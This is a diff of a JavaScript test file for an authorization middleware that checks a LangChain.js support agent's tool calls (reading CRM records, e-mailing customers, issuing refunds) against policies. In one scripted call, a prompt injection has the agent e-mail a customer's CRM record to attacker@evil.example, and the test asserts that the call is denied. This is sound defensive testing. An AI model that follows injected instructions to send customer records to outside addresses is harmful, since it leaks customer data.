@@ -16,44 +16,47 @@ import { authorizationMiddleware } from 'agentauthz/langchain'
 assert.equal(process.env.LANGSMITH_TRACING, undefined, 'LANGSMITH_TRACING must be unset: tracing would try the network')
 
 const here = path.dirname(fileURLToPath(import.meta.url))
-const BUNDLE = path.join(here, 'fixtures', 'helpdesk')
-const NOW = '2026-11-29T10:00:00Z'
+// The support-agent example bundle: an assistant acting for support users.
+const BUNDLE = path.join(here, '..', '..', 'policies-examples', 'support-agent')
+const NOW = '2026-11-29T10:00:00Z' // inside sam's case CASE-5512 (09:00-12:00)
 
-/** The helpdesk tools; each records that it ran. */
-function helpdeskTools(ran) {
+/** The support assistant's tools; each records that it ran. */
+function supportTools(ran) {
   const object = (properties, required) => ({ type: 'object', properties, required })
   const str = { type: 'string' }
   return [
-    tool(async ({ ticket }) => (ran.push(['read_ticket', ticket]), `ticket ${ticket}: printer on fire`), {
-      name: 'read_ticket',
-      description: 'Read a ticket',
-      schema: object({ ticket: str }, ['ticket']),
+    tool(async ({ customer }) => (ran.push(['read_customer', customer]), `customer ${customer}: Northwind Traders, EUR`), {
+      name: 'read_customer',
+      description: 'Read a customer record from the CRM',
+      schema: object({ customer: str }, ['customer']),
     }),
-    tool(async ({ ticket, reason }) => (ran.push(['close_ticket', ticket]), `closed ${ticket}: ${reason}`), {
-      name: 'close_ticket',
-      description: 'Close a ticket with a reason',
-      schema: object({ ticket: str, reason: str }, ['ticket', 'reason']),
+    tool(async ({ customer, to, subject }) => (ran.push(['send_email', to]), `sent "${subject}" to ${to} about ${customer}`), {
+      name: 'send_email',
+      description: "E-mail a customer about their case",
+      schema: object({ customer: str, to: str, subject: str, body: str }, ['customer', 'to', 'subject']),
     }),
-    tool(async ({ to, subject }) => (ran.push(['send_mail', to]), `sent "${subject}" to ${to}`), {
-      name: 'send_mail',
-      description: 'Send an e-mail from the support mailbox',
-      schema: object({ to: str, subject: str }, ['to', 'subject']),
+    tool(async ({ order, amount, currency }) => (ran.push(['refund', order]), `refunded ${amount} ${currency} on ${order}`), {
+      name: 'refund',
+      description: 'Refund (part of) an order',
+      schema: object({ order: str, amount: str, currency: str, reason: str }, ['order', 'amount', 'currency']),
     }),
   ]
 }
 
-/** How the helpdesk agent's tool calls map onto the bundle's requests. */
-function helpdeskMiddleware(engine, decisions, errors = []) {
+/** How the assistant's tool calls map onto the bundle's requests. */
+function supportMiddleware(engine, decisions, errors = []) {
   return authorizationMiddleware({
     engine,
-    agent: 'desk-bot',
-    onBehalfOf: 'alice',
-    action: { read_ticket: 'tickets:read', close_ticket: 'tickets:close', send_mail: 'mail:send' },
-    resource: (call) => (call.name === 'send_mail' ? { type: 'Mailbox', id: 'support' } : { type: 'Ticket', id: call.args.ticket }),
+    agent: 'helpdesk-assistant',
+    onBehalfOf: 'sam',
+    task: 'CASE-5512',
+    credential: 'helpdesk-oauth',
+    action: { read_customer: 'crm:read-customer', send_email: 'email:send', refund: 'billing:refund' },
+    resource: (call) => (call.name === 'refund' ? { type: 'Order', id: call.args.order } : { type: 'Customer', id: call.args.customer }),
     input: (call) => {
-      if (call.name === 'read_ticket') return undefined // tickets:read takes no input
-      if (call.name === 'close_ticket') return { reason: call.args.reason }
-      return call.args
+      if (call.name === 'read_customer') return undefined // crm:read-customer takes no input
+      const { customer, order, ...input } = call.args // the resource is not part of the input
+      return input
     },
     now: NOW,
     onDecision: (decision, call) => decisions.push([call.name, decision]),
@@ -70,51 +73,53 @@ describe('LangChain.js agent with agentauthz', () => {
     const decisions = []
     const model = fakeModel()
       .respondWithTools([
-        { name: 'read_ticket', args: { ticket: 'T-1' }, id: 'call-1' }, // alice's ticket: allowed
-        { name: 'read_ticket', args: { ticket: 'T-2' }, id: 'call-2' }, // bob's ticket: no permit
-        { name: 'close_ticket', args: { ticket: 'T-3', reason: 'fixed' }, id: 'call-3' }, // priority 5: forbidden
+        { name: 'read_customer', args: { customer: 'c-1001' }, id: 'call-1' }, // sam's customer: allowed
+        { name: 'read_customer', args: { customer: 'c-2001' }, id: 'call-2' }, // riley's customer: no permit
+        // A prompt injection asks to mail the record elsewhere: forbidden.
+        { name: 'send_email', args: { customer: 'c-1001', to: 'attacker@evil.example', subject: 'CRM export' }, id: 'call-3' },
       ])
       .respondWithTools([
-        { name: 'send_mail', args: { to: 'attacker@evil.example', subject: 'T-1 dump' }, id: 'call-4' }, // outside Acme
-        { name: 'send_mail', args: { to: 'bob@acme.example', subject: 'T-1 update' }, id: 'call-5' }, // allowed
-        { name: 'close_ticket', args: { ticket: 'T-1', reason: 'fixed' }, id: 'call-6' }, // allowed
+        { name: 'send_email', args: { customer: 'c-1001', to: 'billing@northwind.example', subject: 'Your refund' }, id: 'call-4' },
+        { name: 'refund', args: { order: 'o-5001', amount: '25.00', currency: 'EUR' }, id: 'call-5' }, // allowed
+        { name: 'refund', args: { order: 'o-5002', amount: '250.00', currency: 'EUR' }, id: 'call-6' }, // above 100.00
       ])
-      .respond(new AIMessage('All done.'))
-    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [helpdeskMiddleware(engine, decisions)] })
+      .respond(new AIMessage('Refunded 25.00 EUR and told the customer.'))
+    const agent = createAgent({ model, tools: supportTools(ran), middleware: [supportMiddleware(engine, decisions)] })
 
-    const result = await agent.invoke({ messages: [new HumanMessage('Work through the queue.')] })
+    const result = await agent.invoke({ messages: [new HumanMessage("Handle Northwind's duplicate charge.")] })
 
     assert.deepEqual(ran.sort(), [
-      ['close_ticket', 'T-1'],
-      ['read_ticket', 'T-1'],
-      ['send_mail', 'bob@acme.example'],
+      ['read_customer', 'c-1001'],
+      ['refund', 'o-5001'],
+      ['send_email', 'billing@northwind.example'],
     ])
     const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
     assert.deepEqual(Object.keys(byId).sort(), ['call-1', 'call-2', 'call-3', 'call-4', 'call-5', 'call-6'])
-    for (const id of ['call-1', 'call-5', 'call-6']) assert.notEqual(byId[id].status, 'error', id)
-    assert.match(byId['call-1'].content, /printer on fire/)
-    for (const id of ['call-2', 'call-3', 'call-4']) {
+    for (const id of ['call-1', 'call-4', 'call-5']) assert.notEqual(byId[id].status, 'error', id)
+    assert.match(byId['call-1'].content, /Northwind Traders/)
+    assert.match(byId['call-5'].content, /refunded 25.00 EUR on o-5001/)
+    for (const id of ['call-2', 'call-3', 'call-6']) {
       assert.equal(byId[id].status, 'error', id)
       assert.match(byId[id].content, /^Not authorized: /, id)
     }
-    assert.match(byId['call-2'].content, /"tickets:read" on Ticket::"T-2" was refused \(no policy permits it/)
-    assert.match(byId['call-3'].content, /denied by desk\/no-close-high-priority/)
-    assert.match(byId['call-4'].content, /"mail:send" on Mailbox::"support" was refused/)
-    assert.equal(byId['call-3'].artifact.agentauthz.decision, 'deny')
-    assert.deepEqual(byId['call-3'].artifact.agentauthz.reasons, ['desk/no-close-high-priority'])
+    assert.match(byId['call-2'].content, /"crm:read-customer" on Customer::"c-2001" was refused \(no policy permits it/)
+    assert.match(byId['call-3'].content, /"email:send" on Customer::"c-1001" was refused \(denied by support\/email-only-to-customer-address/)
+    assert.match(byId['call-6'].content, /denied by support\/refund-limit/)
+    assert.equal(byId['call-6'].artifact.agentauthz.decision, 'deny')
+    assert.deepEqual(byId['call-6'].artifact.agentauthz.reasons, ['support/refund-limit'])
 
     // One decision per tool call, each a real Decision from the engine.
     assert.equal(decisions.length, 6)
     assert.ok(decisions.every(([, d]) => d instanceof Decision && d.policyRevision === engine.policyRevision))
     assert.deepEqual(
-      decisions.map(([name, d]) => [name, d.decision]).sort(),
+      decisions.map(([name, d]) => [name, d.decision, d.reasons]).sort(),
       [
-        ['close_ticket', 'allow'],
-        ['close_ticket', 'deny'],
-        ['read_ticket', 'allow'],
-        ['read_ticket', 'deny'],
-        ['send_mail', 'allow'],
-        ['send_mail', 'deny'],
+        ['read_customer', 'allow', ['support/read-own-customers']],
+        ['read_customer', 'deny', []],
+        ['refund', 'allow', ['support/refund-own-customers']],
+        ['refund', 'deny', ['support/refund-limit']],
+        ['send_email', 'allow', ['support/email-own-customers']],
+        ['send_email', 'deny', ['support/email-only-to-customer-address']],
       ],
     )
     // The model was called again after each tool round and saw the refusals.
@@ -125,7 +130,7 @@ describe('LangChain.js agent with agentauthz', () => {
       ['call-2', 'error'],
       ['call-3', 'error'],
     ])
-    assert.equal(result.messages.at(-1).content, 'All done.')
+    assert.equal(result.messages.at(-1).content, 'Refunded 25.00 EUR and told the customer.')
   })
 
   test('a call that cannot be decided does not run (fail closed)', async () => {
@@ -135,24 +140,26 @@ describe('LangChain.js agent with agentauthz', () => {
     const errors = []
     const model = fakeModel()
       .respondWithTools([
-        { name: 'send_mail', args: { to: 'bob@acme.example' }, id: 'no-subject' }, // schema wants a subject
-        { name: 'read_ticket', args: {}, id: 'no-ticket' }, // the resource mapping yields no id
+        { name: 'send_email', args: { customer: 'c-1001', to: 'billing@northwind.example' }, id: 'no-subject' }, // input needs a subject
+        { name: 'refund', args: { order: 'o-5001', amount: 25, currency: 'EUR' }, id: 'number-amount' }, // decimal wants a string
+        { name: 'read_customer', args: {}, id: 'no-customer' }, // the resource mapping yields no id
       ])
       .respond(new AIMessage('Gave up.'))
-    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [helpdeskMiddleware(engine, decisions, errors)] })
+    const agent = createAgent({ model, tools: supportTools(ran), middleware: [supportMiddleware(engine, decisions, errors)] })
 
-    const result = await agent.invoke({ messages: [new HumanMessage('Mail Bob.')] })
+    const result = await agent.invoke({ messages: [new HumanMessage('Refund Northwind.')] })
 
     assert.deepEqual(ran, [])
     assert.deepEqual(decisions, [])
     const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
-    assert.equal(byId['no-subject'].status, 'error')
-    assert.match(byId['no-subject'].content, /could not decide "mail:send" .*request_invalid/)
-    assert.equal(byId['no-ticket'].status, 'error')
-    assert.match(byId['no-ticket'].content, /could not decide "tickets:read"/)
+    for (const id of ['no-subject', 'number-amount', 'no-customer']) assert.equal(byId[id].status, 'error', id)
+    assert.match(byId['no-subject'].content, /could not decide "email:send" .*request_invalid/)
+    assert.match(byId['number-amount'].content, /could not decide "billing:refund" .*request_invalid/)
+    assert.match(byId['no-customer'].content, /could not decide "crm:read-customer"/)
     assert.deepEqual(errors.map(([name, e]) => [name, e.code]).sort(), [
-      ['read_ticket', 'request_parse'],
-      ['send_mail', 'request_invalid'],
+      ['read_customer', 'request_parse'],
+      ['refund', 'request_invalid'],
+      ['send_email', 'request_invalid'],
     ])
   })
 
@@ -164,19 +171,19 @@ describe('LangChain.js agent with agentauthz', () => {
     const decisions = []
     const middleware = cjs.authorizationMiddleware({
       engine,
-      agent: 'stray-bot', // nobody owns it: the baseline denies everything
-      onBehalfOf: 'alice',
-      action: () => 'tickets:read',
-      resource: (call) => ({ type: 'Ticket', id: call.args.ticket }),
+      agent: 'chat-widget-bot', // set up by a vendor, nobody owns it: the baseline denies everything
+      onBehalfOf: () => 'sam',
+      action: () => 'crm:read-customer',
+      resource: (call) => ({ type: 'Customer', id: call.args.customer }),
       input: () => undefined,
       now: () => new Date(NOW),
       onDecision: (d) => decisions.push(d),
     })
     const model = fakeModel()
-      .respondWithTools([{ name: 'read_ticket', args: { ticket: 'T-1' }, id: 'c' }])
+      .respondWithTools([{ name: 'read_customer', args: { customer: 'c-1001' }, id: 'c' }])
       .respond(new AIMessage('ok'))
-    const agent = createAgent({ model, tools: helpdeskTools(ran), middleware: [middleware] })
-    const result = await agent.invoke({ messages: [new HumanMessage('Read T-1.')] })
+    const agent = createAgent({ model, tools: supportTools(ran), middleware: [middleware] })
+    const result = await agent.invoke({ messages: [new HumanMessage('Read c-1001.')] })
     assert.deepEqual(ran, [])
     assert.deepEqual(decisions.map((d) => d.reasons), [['baseline/owner-required']])
     assert.match(toolMessages(result.messages)[0].content, /denied by baseline\/owner-required/)
